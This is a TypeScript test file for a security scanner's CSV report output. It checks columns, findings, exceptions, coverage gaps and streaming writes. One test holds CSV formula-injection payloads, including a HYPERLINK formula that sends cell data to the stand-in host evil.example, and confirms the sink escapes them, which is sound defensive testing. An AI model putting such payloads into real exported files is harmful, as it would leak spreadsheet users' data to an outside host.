import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Finding } from '../model/finding.js';
import type { ReportSink } from '../model/report.js';
import { CSV_COLUMNS, CsvSink } from './csv.js';
import { parseCsv } from './format-readers.js';
import { CapturingStream, clusterReport, play, sampleReport, SPECIAL_FILE, type SampleReport } from './testing.js';

async function csvOf(report: SampleReport): Promise<Record<string, string>[]> {
  const out = new CapturingStream({ slow: true });
  await play(new CsvSink(out), report);
  const [header, ...rows] = parseCsv(out.text);
  assert.deepEqual(header, [...CSV_COLUMNS]);
  for (const row of rows) assert.equal(row.length, CSV_COLUMNS.length, `a full row: ${row.join('|')}`);
  return rows.map((row) => Object.fromEntries(CSV_COLUMNS.map((column, index) => [column, row[index]!])));
}

function allFindings(report: SampleReport): Finding[] {
  return [...report.resources.flatMap((entry) => entry.findings), ...report.clusterFindings];
}

describe('CSV output', () => {
  it('has one record per finding, then one per input error, with the fields of the model', async () => {
    const report = sampleReport();
    const rows = await csvOf(report);
    const findings = allFindings(report);
    assert.deepEqual(rows.map((row) => row.type), [...findings.map(() => 'finding'), ...report.errors.map(() => 'input-error')]);
    const privileged = rows[0]!;
    assert.equal(privileged.control, 'pss-privileged');
    assert.equal(privileged.severity, 'critical');
    assert.equal(privileged.kind, 'Deployment');
    assert.equal(privileged.namespace, 'shop');
    assert.equal(privileged.file, SPECIAL_FILE);
    assert.equal(privileged.line, '21');
    assert.equal(privileged.path, 'spec.template.spec.containers[0].securityContext.privileged');
    assert.equal(privileged.found, 'true');
    assert.equal(privileged.frameworks, 'pss:baseline; cis:5.2.2');
    assert.equal(privileged.excepted, 'no');

    const [expired, excepted, wildcard] = rows.slice(1, 4) as [Record<string, string>, Record<string, string>, Record<string, string>];
    assert.deepEqual([expired.excepted, expired['exception status'], expired['exception owner'], expired['exception expires']], ['no', 'expired', 'team-shop', '2024-01-31']);
    assert.deepEqual([excepted.excepted, excepted['exception reason'], excepted['exception owner']], ['yes', 'break-glass debug pod', 'sre']);
    assert.equal(wildcard.message, findings[3]!.message, 'quotes, markup and control characters survive the quoting');
    assert.equal(wildcard.title, 'Role grants <everything> & "more"');
    assert.deepEqual(JSON.parse(wildcard.found!), { verbs: ['*'], missing: null, big: '10' });
    assert.equal(wildcard.line, '', 'no line when the source gave none');

    const broken = rows.find((row) => row.file === 'broken.yaml')!;
    assert.deepEqual([broken.type, broken.control, broken.line], ['input-error', 'parse-failed', '3']);
  });

  it('gives a cluster object its context and API path, and lists coverage gaps', async () => {
    const rows = await csvOf(clusterReport());
    const web = rows.find((row) => row.name === 'web')!;
    assert.deepEqual([web.cluster, web.apiPath, web.file, web.line], ['prod', '/apis/apps/v1/namespaces/shop/deployments/web', '', '']);
    const gap = rows.find((row) => row.type === 'coverage-gap')!;
    assert.deepEqual([gap.cluster, gap.name], ['prod', 'secrets']);
    assert.match(gap.message!, /^HTTP 403: secrets is forbidden/);
    const unreachable = rows.find((row) => row.type === 'input-error')!;
    assert.deepEqual([unreachable.cluster, unreachable.control], ['gone', 'cluster-unreachable']);
  });

  it('never starts a cell with a formula character', async () => {
    const report = sampleReport();
    const finding = report.resources[0]!.findings[0]!;
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\r=1'];
    report.resources[0]!.findings = hostile.map((text) => ({ ...finding, message: text, resource: { ...finding.resource, name: text }, evidence: { found: text, expected: text } }));
    const rows = (await csvOf(report)).filter((row) => row.type === 'finding').slice(0, hostile.length);
    rows.forEach((row, index) => {
      for (const column of ['message', 'name', 'expected'] as const) assert.equal(row[column], `'${hostile[index]}`, `${column} of ${JSON.stringify(hostile[index])}`);
    });
    for (const row of rows) for (const value of Object.values(row)) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
  });

  it('writes findings as they arrive, before the scan ends', async () => {
    const report = sampleReport();
    const out = new CapturingStream();
    const sink: ReportSink = new CsvSink(out);
    await sink.begin(report.header);
    const [finding] = report.resources[0]!.findings;
    for (let index = 0; index < 2000; index++) await sink.finding({ ...finding!, message: `finding ${index}` });
    const before = out.text.split('\r\n').length - 1;
    assert.ok(before > 100, `${before} records were out before end()`);
    await sink.end(report.summary);
    assert.equal(out.text.split('\r\n').length - 1, 2001);
  });
});
